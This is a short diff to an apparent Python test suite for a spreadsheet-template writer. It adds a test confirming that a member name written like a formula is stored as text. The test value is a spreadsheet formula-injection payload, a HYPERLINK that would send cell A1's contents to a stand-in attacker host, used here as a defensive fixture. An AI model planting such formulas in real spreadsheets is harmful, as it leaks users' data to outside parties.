@@ -486,3 +486,10 @@ def test_db_defaults_to_the_environment_variable(tmp_path, monkeypatch):
 
 def test_a_mistyped_command_exits_2():
     assert run("ingets", "x.xlsx").returncode == 2
+
+
+def test_a_member_named_like_a_formula_is_written_as_text():
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Totals")'
+    book = openpyxl.load_workbook(io.BytesIO(template.write_template(Member("EVL", name, "adult"), 2024, 1)))
+    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
+    assert book["Return"]["B4"].value == name
